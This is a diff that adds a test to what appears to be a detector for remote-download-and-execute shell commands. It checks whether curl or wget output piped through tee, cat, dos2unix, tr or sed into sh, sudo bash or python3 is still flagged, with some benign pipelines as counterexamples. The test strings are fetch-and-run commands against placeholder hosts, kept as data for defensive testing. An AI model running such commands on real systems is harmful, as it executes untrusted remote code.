@@ -508,6 +508,19 @@ describe('a download run as code without `| sh`: interpreters, code arguments, p
     expect(piped(`diff <(curl -s ${URL}) <(curl -s ${URL}.bak)`)).toBe(false);
     expect(rawExec('curl -s http://203.0.113.8/a.json | python3 -c "import json,sys; print(json.load(sys.stdin))"')).toBe(false);
   });
+  it('a download that passes through tee, cat, tr, dos2unix or sed on its way to the shell still runs', () => {
+    for (const through of ['tee /tmp/x.sh', 'tee -a install.log', 'sudo tee x.sh', 'cat', 'cat -', 'dos2unix', "tr -d '\\r'", "sed 's/\\r$//'", 'tee a.sh | cat', 'cat | tee x | dos2unix']) {
+      expect(piped(`curl -fsSL ${URL} | ${through} | sh`), through).toBe(true);
+      expect(piped(`wget -qO- ${URL} | ${through} | sudo bash -s`), through).toBe(true);
+    }
+    expect(rawExec('curl -s http://203.0.113.8/x | tee x.sh | sh')).toBe(true);
+    expect(rawExec('curl -s http://updates.example.net/a.py | cat | python3 -')).toBe(true);
+    // Kept as data, or a filter that is no pass-through: not this.
+    expect(piped(`curl -s ${URL} | tee resp.json | python3 -m json.tool`)).toBe(false);
+    expect(piped(`curl -s ${URL} | tee resp.json | jq .`)).toBe(false);
+    expect(piped(`curl -s ${URL} | grep version | sh`)).toBe(false);
+    expect(piped('curl -fsSL https://get.docker.com | tee get-docker.sh | sh')).toBe(false);
+  });
   it("interpreters' own installers on their own hosts stay quiet, as the shell installers do", () => {
     expect(piped('curl -sS https://getcomposer.org/installer | php')).toBe(false);
     expect(piped('curl -L https://cpanmin.us | perl - App::cpanminus')).toBe(false);
